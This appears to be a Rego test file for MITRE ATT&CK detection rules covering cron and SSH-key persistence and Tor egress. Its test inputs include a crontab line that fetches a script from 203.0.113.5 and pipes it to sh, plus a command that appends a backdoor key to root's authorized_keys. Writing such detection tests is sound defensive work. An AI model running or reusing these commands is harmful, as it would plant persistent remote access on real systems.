package mitre_test

_file(action, path, exe) := _ev({"event": "file", "action": action, "file": {"path": path}, "process": {"executable": exe}})

_conn(ip, port) := _ev({"event": "network.connection", "destination": {"ip": ip, "port": port}, "network": {"transport": "tcp", "direction": "egress"}})

test_cron_d_written_by_shell if {
	ds := _detections(_file("create", "/etc/cron.d/.sysupdate", "/usr/bin/bash"))
	some d in ds
	d.technique == "T1053.003"
	d.tactic == "persistence"
}

test_cron_d_written_by_dpkg_is_benign if {
	count(_found(_file("create", "/etc/cron.d/logrotate", "/usr/bin/dpkg"))) == 0
}

test_crontab_from_pipe if {
	"T1053.003" in _found(_proc("/usr/bin/bash", `bash -c (crontab -l; echo "*/5 * * * * curl -s http://203.0.113.5/x|sh") | crontab -`, "/usr/sbin/apache2"))
}

test_crontab_list_is_benign if {
	count(_found(_proc("/usr/bin/crontab", "crontab -l", "/usr/bin/bash"))) == 0
}

test_authorized_keys_modified if {
	"T1098.004" in _found(_file("modify", "/root/.ssh/authorized_keys", "/usr/bin/bash"))
}

test_authorized_keys_by_cloud_init_is_benign if {
	count(_found(_file("create", "/home/ubuntu/.ssh/authorized_keys", "/usr/bin/cloud-init"))) == 0
}

test_known_hosts_is_benign if {
	count(_found(_file("modify", "/home/alice/.ssh/known_hosts", "/usr/bin/ssh"))) == 0
}

test_authorized_keys_echo if {
	"T1098.004" in _found(_proc("/usr/bin/bash", `bash -c echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO backdoor" >> /root/.ssh/authorized_keys`, "/usr/sbin/cron"))
}

test_tor_or_port if {
	ds := _detections(_conn("185.220.101.4", 9001))
	some d in ds
	d.technique == "T1090.003"
}

test_private_9001_is_benign if {
	count(_found(_conn("10.20.0.5", 9001))) == 0
}

test_https_egress_is_benign if {
	count(_found(_conn("140.82.112.3", 443))) == 0
}

test_onion_lookup if {
	"T1090.003" in _found(_dns("duskgytldkxiuqc6.onion", "A", []))
}
